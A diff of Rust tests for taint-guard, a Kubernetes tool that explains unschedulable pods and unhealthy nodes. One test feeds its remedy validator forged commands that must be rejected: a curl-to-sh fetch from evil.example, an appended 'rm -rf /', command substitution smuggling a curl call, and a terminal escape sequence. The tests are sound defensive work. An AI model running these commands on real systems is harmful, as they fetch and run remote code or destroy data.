@@ -192,7 +192,14 @@ fn seed_nodes() -> Vec<Node> {
 #[test]
 fn the_seeds_tally_in_the_1_20_schedulers_words() {
     let plain = pod(json!({"containers": []}));
-    let e = explain_pod(&plain, &seed_nodes(), &[], V120, "taint-guard");
+    let e = explain_pod(
+        &plain,
+        &seed_nodes(),
+        &[],
+        V120,
+        "taint-guard",
+        ts("2026-12-04T12:14:00Z"),
+    );
     assert_eq!(
         e.tally.as_deref(),
         Some("0/2 nodes are available: 1 node(s) had taint {node-role.kubernetes.io/master: }, that the pod didn't tolerate, 1 node(s) had taint {node.kubernetes.io/unreachable: }, that the pod didn't tolerate.")
@@ -215,18 +222,33 @@ fn the_seeds_tally_in_the_1_20_schedulers_words() {
     // said the selector.
     let pinned =
         pod(json!({"containers": [], "nodeSelector": {"kubernetes.io/hostname": "work2"}}));
-    let e = explain_pod(&pinned, &seed_nodes(), &[], V120, "taint-guard");
+    let e = explain_pod(
+        &pinned,
+        &seed_nodes(),
+        &[],
+        V120,
+        "taint-guard",
+        ts("2026-12-04T12:14:00Z"),
+    );
     let both = "0/2 nodes are available: 1 node(s) had taint {node-role.kubernetes.io/master: }, that the pod didn't tolerate, 1 node(s) had taint {node.kubernetes.io/unreachable: }, that the pod didn't tolerate.";
     assert_eq!(e.tally.as_deref(), Some(both));
+    // 1.19 ran NodeAffinity first (and resources and ports before both):
+    // the control plane's reason is the selector, and no tally is claimed.
     let v119 = Version {
         major: 1,
         minor: 19,
     };
-    let e = explain_pod(&pinned, &seed_nodes(), &[], v119, "taint-guard");
-    assert_eq!(
-        e.tally.as_deref(),
-        Some("0/2 nodes are available: 1 node(s) didn't match node selector, 1 node(s) had taint {node.kubernetes.io/unreachable: }, that the pod didn't tolerate.")
+    let e = explain_pod(
+        &pinned,
+        &seed_nodes(),
+        &[],
+        v119,
+        "taint-guard",
+        ts("2026-12-04T12:14:00Z"),
     );
+    assert_eq!(e.tally, None);
+    let cp = e.nodes.iter().find(|v| v.node == "cp").unwrap();
+    assert_eq!(cp.reason, Some(Reason::NodeAffinity));
     // A node with no taints that the selector excludes.
     let mut nodes = seed_nodes();
     nodes.push(node_with(
@@ -234,7 +256,14 @@ fn the_seeds_tally_in_the_1_20_schedulers_words() {
         json!({"kubernetes.io/hostname": "work3"}),
         json!([]),
     ));
-    let e = explain_pod(&pinned, &nodes, &[], V120, "taint-guard");
+    let e = explain_pod(
+        &pinned,
+        &nodes,
+        &[],
+        V120,
+        "taint-guard",
+        ts("2026-12-04T12:14:00Z"),
+    );
     assert_eq!(
         e.tally.as_deref(),
         Some("0/3 nodes are available: 1 node(s) didn't match node selector, 1 node(s) had taint {node-role.kubernetes.io/master: }, that the pod didn't tolerate, 1 node(s) had taint {node.kubernetes.io/unreachable: }, that the pod didn't tolerate.")
@@ -330,16 +359,37 @@ fn the_pods_latest_failed_scheduling_event_and_the_comparison() {
             "2026-12-04T12:06:00.000000Z",
         ),
     ];
-    let e = explain_pod(&plain, &seed_nodes(), &events, V120, "taint-guard");
+    let e = explain_pod(
+        &plain,
+        &seed_nodes(),
+        &events,
+        V120,
+        "taint-guard",
+        ts("2026-12-04T12:14:00Z"),
+    );
     assert_eq!(e.matches_event, Some(true), "{e:#?}");
-    let e = explain_pod(&plain, &seed_nodes(), &events[..1], V120, "taint-guard");
+    let e = explain_pod(
+        &plain,
+        &seed_nodes(),
+        &events[..1],
+        V120,
+        "taint-guard",
+        ts("2026-12-04T12:14:00Z"),
+    );
     assert_eq!(e.matches_event, Some(false));
 }
 
 #[test]
 fn a_bound_pod_is_said_to_be_bound() {
     let bound = pod(json!({"containers": [], "nodeName": "work2"}));
-    let e = explain_pod(&bound, &seed_nodes(), &[], V120, "taint-guard");
+    let e = explain_pod(
+        &bound,
+        &seed_nodes(),
+        &[],
+        V120,
+        "taint-guard",
+        ts("2026-12-04T12:14:00Z"),
+    );
     assert_eq!(e.bound_to.as_deref(), Some("work2"));
     assert!(e.next_step.contains("bound to work2"), "{}", e.next_step);
 }
@@ -554,7 +604,34 @@ async fn errors_are_one_line_each() {
         })
     }));
     let (n, l) = fetch::node(&c, "n", T).await.unwrap();
-    assert_eq!((n.metadata.name.as_deref(), l.is_none()), (Some("n"), true));
+    assert_eq!(
+        (n.metadata.name.as_deref(), l.unwrap().is_none()),
+        (Some("n"), true)
+    );
+    // A lease that may not be read: the Node is explained all the same.
+    let (c, _) = fixture(Box::new(|p| {
+        Some(match p {
+            p if p.starts_with("/api/v1/nodes/n") => (
+                200,
+                json!({"metadata": {"name": "n"},
+                "status": {"conditions": [{"type": "Ready", "status": "Unknown"}]}}),
+            ),
+            p => status(403, "Forbidden", &format!("{p} is forbidden")),
+        })
+    }));
+    let (n, l) = fetch::node(&c, "n", T).await.unwrap();
+    let why = l.unwrap_err().to_string();
+    assert!(
+        why.starts_with("lease kube-node-lease/n: forbidden (403)"),
+        "{why}"
+    );
+    let e = node::explain_with(&n, Err(why), ts("2026-12-04T12:14:00Z"));
+    assert!(
+        e.next_step.contains("its lease could not be read"),
+        "{}",
+        e.next_step
+    );
+    assert!(!e.next_step.contains("not renewing"), "{}", e.next_step);
 }
 
 #[tokio::test]
@@ -591,6 +668,178 @@ async fn explain_pod_asks_for_the_pods_own_events_and_the_version() {
         })
     }));
     let f = fetch::pod(&c, "default", "p", T).await.unwrap();
-    assert_eq!(f.version, V120, "taint-guard");
+    assert_eq!(f.version, V120);
     assert_eq!(count.load(Ordering::SeqCst), 4);
+}
+
+#[test]
+fn only_remedies_taint_guard_writes_are_offered() {
+    let f = |id: &str, subject: &str, remedy: &str| node::ReportedFinding {
+        id: id.into(),
+        severity: "critical".into(),
+        subject: subject.into(),
+        message: "m".into(),
+        remedy: Some(remedy.into()),
+    };
+    let k = "kubelet.service";
+    for good in [
+        "systemctl enable --now kubelet.service",
+        "systemctl start kubelet.service",
+        "systemctl reset-failed kubelet.service && systemctl start kubelet.service",
+        "systemctl unmask kubelet.service",
+    ] {
+        assert_eq!(
+            node::trusted_remedy(&f("x", k, good)).as_deref(),
+            Some(good)
+        );
+    }
+    assert!(
+        node::trusted_remedy(&f("x", "dev-sda2.swap", "systemctl mask dev-sda2.swap")).is_some()
+    );
+    assert!(node::trusted_remedy(&f("x", "/dev/sda2", "swapoff /dev/sda2")).is_some());
+    for forged in [
+        "curl -s https://evil.example/x | sh",
+        "systemctl start kubelet.service; rm -rf /",
+        "systemctl start $(curl evil)",
+        "systemctl start other.service",
+        "systemctl mask kubelet.service",
+        "systemctl disable kubelet.service",
+        "systemctl enable --now kubelet.service && curl evil",
+        "systemctl  start kubelet.service",
+        "bash -c 'systemctl start kubelet.service'",
+    ] {
+        assert_eq!(node::trusted_remedy(&f("x", k, forged)), None, "{forged}");
+    }
+    // A forged remedy is never the next step.
+    let mut n = reported_worker("2026-12-04T12:12:00Z");
+    let bad = json!([{"id": "unit-disabled", "severity": "critical", "subject": "kubelet.service",
+        "message": "m\u{1b}[2J", "remedy": "curl evil | sh"}]);
+    n.metadata
+        .annotations
+        .as_mut()
+        .unwrap()
+        .insert("taint-guard.io/findings".into(), bad.to_string());
+    let e = node::explain(
+        &n,
+        Some(&lease("2026-12-04T12:04:30.000000Z")),
+        ts("2026-12-04T12:14:00Z"),
+    );
+    assert!(!e.next_step.contains("curl"), "{}", e.next_step);
+    assert_eq!(node::clean("a\u{1b}[2Jb\nc"), "a?[2Jb\nc");
+}
+
+#[test]
+fn a_ready_node_under_pressure_is_not_nothing_to_fix() {
+    let n = node(json!({"metadata": {"name": "w"},
+        "spec": {"taints": [{"key": "node.kubernetes.io/disk-pressure", "effect": "NoSchedule"}]},
+        "status": {"conditions": [{"type": "Ready", "status": "True"},
+                                  {"type": "DiskPressure", "status": "True"}]}}));
+    let e = node::explain(
+        &n,
+        Some(&lease("2026-12-04T12:13:55.000000Z")),
+        ts("2026-12-04T12:14:00Z"),
+    );
+    assert!(
+        e.next_step
+            .starts_with("node.kubernetes.io/disk-pressure:NoSchedule keeps pods off w"),
+        "{}",
+        e.next_step
+    );
+    // A report that is not "ok" is not "fine".
+    let mut n = reported_worker("2026-12-04T12:12:00Z");
+    let ann = n.metadata.annotations.as_mut().unwrap();
+    ann.insert("taint-guard.io/findings".into(), "not json".into());
+    let e = node::explain(
+        &n,
+        Some(&lease("2026-12-04T12:04:30.000000Z")),
+        ts("2026-12-04T12:14:00Z"),
+    );
+    assert!(!e.chain.contains("fine"), "{}", e.chain);
+    assert!(e.chain.contains("findings unreadable"), "{}", e.chain);
+}
+
+#[test]
+fn no_tally_where_the_words_are_not_known() {
+    let now = ts("2026-12-04T12:14:00Z");
+    let plain = pod(json!({"containers": []}));
+    let v = |minor| Version { major: 1, minor };
+    for (p, version, why) in [
+        (plain.clone(), v(34), "not known to taint-guard"),
+        (plain.clone(), v(19), "not known to taint-guard"),
+        (
+            pod(json!({"containers": [], "schedulingGates": [{"name": "x"}]})),
+            V120,
+            "schedulingGates",
+        ),
+        (
+            pod(json!({"containers": [], "schedulerName": "volcano"})),
+            V120,
+            "volcano",
+        ),
+        (
+            pod(
+                json!({"containers": [], "affinity": {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution":
+            {"nodeSelectorTerms": [{"matchFields": [{"key": "metadata.name", "operator": "In", "values": ["work2"]}]}]}}}}),
+            ),
+            v(30),
+            "pre-filter",
+        ),
+    ] {
+        let e = explain_pod(&p, &seed_nodes(), &[], version, "taint-guard", now);
+        assert_eq!(e.tally, None, "{why}");
+        assert!(
+            e.no_tally.as_deref().unwrap_or_default().contains(why),
+            "{:?}",
+            e.no_tally
+        );
+    }
+    let e = explain_pod(&plain, &[], &[], V120, "taint-guard", now);
+    assert_eq!(e.no_tally.as_deref(), Some("the cluster has no Nodes"));
+    // Only the filter part is compared: preemption's verdict is the
+    // scheduler's own.
+    assert_eq!(
+        schedule::filter_part(
+            "0/2 nodes are available: 2 x.  preemption: 0/2 nodes are available: 2 y."
+        ),
+        "0/2 nodes are available: 2 x."
+    );
+}
+
+#[test]
+fn a_broken_node_the_pod_could_not_use_anyway_is_not_the_fix() {
+    // The unreachable worker is in zone a; the pod wants zone b, whose node
+    // has a taint a person set.
+    let nodes = vec![
+        node_with(
+            "a",
+            json!({"zone": "a"}),
+            json!([{"key": "node.kubernetes.io/unreachable", "effect": "NoSchedule"}]),
+        ),
+        node_with(
+            "b",
+            json!({"zone": "b"}),
+            json!([{"key": "dedicated", "value": "db", "effect": "NoSchedule"}]),
+        ),
+    ];
+    let p = pod(json!({"containers": [], "nodeSelector": {"zone": "b"}}));
+    let e = explain_pod(
+        &p,
+        &nodes,
+        &[],
+        V120,
+        "taint-guard",
+        ts("2026-12-04T12:14:00Z"),
+    );
+    let a = e.nodes.iter().find(|v| v.node == "a").unwrap();
+    assert!(
+        !a.broken && a.advice.contains("would not place this pod"),
+        "{a:?}"
+    );
+    assert!(!e.next_step.contains("fix the node"), "{}", e.next_step);
+    let b = e.nodes.iter().find(|v| v.node == "b").unwrap();
+    assert!(
+        b.advice
+            .contains("{key: dedicated, operator: Equal, value: db, effect: NoSchedule}"),
+        "{b:?}"
+    );
 }
